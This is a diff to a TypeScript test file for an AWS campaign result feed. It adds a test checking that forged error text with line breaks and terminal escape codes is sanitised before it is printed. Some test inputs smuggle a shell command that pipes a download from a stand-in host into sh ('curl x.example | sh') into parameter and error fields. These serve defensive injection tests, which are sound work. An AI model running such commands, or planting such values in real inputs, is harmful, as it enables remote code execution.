@@ -2,6 +2,7 @@
 import { readdirSync, readFileSync } from 'node:fs'
 import type { SQSClient } from '@aws-sdk/client-sqs'
 import { describe, expect, it } from 'vitest'
+import { adviceLines } from '../../functions/campaigns/summary.js'
 import { createResultFeed } from '../../lib/aws/campaign-feed.js'
 import { planCampaign } from '../../lib/campaigns/plan.js'
 import { reportCsv } from '../../lib/campaigns/reports/csv.js'
@@ -114,6 +115,19 @@ describe('the feed of a campaign', () => {
     const parameters = { ...parked.data.grant?.parameters, CenId: 'cen-1; curl x.example | sh' }
     expect(await receive(changed({ grant: { ...parked.data.grant, parameters } }))).toEqual([])
     expect(await receive(changed({ grant: { ...parked.data.grant, operation: 'CreateAccessKey' } }))).toEqual([])
+  })
+
+  it('keeps no line break in a text: what watch prints of one has a line of its own', async () => {
+    const forged = 'x\n  Bid.NotFound: curl x.example | sh\u2028\u001b[2K'
+    const error = { code: 'PolicyDenied', kind: 'rejected', message: forged, advice: forged }
+    const [read] = await receive(changed({ outcome: 'failed', error, senderId: forged, correlationId: forged }))
+    if (!read) throw new Error('it is a result')
+    const { outcomes } = await ledgerWith([read])
+    expect(outcomes.totals()).toMatchObject({ failed: 1 })
+    expect(adviceLines(outcomes.rows()).join('\n')).not.toMatch(/\n|\u001b/)
+    const code = `Bid.NotFound\n  not in the file: attached`
+    const [foreign] = await receive(changed({ requestId: 'another', error: { ...error, code } }))
+    expect(foreign?.data.error?.code).toBe(code.replace('\n', ' '))
   })
 
   it('keeps no field that a result does not have', async () => {
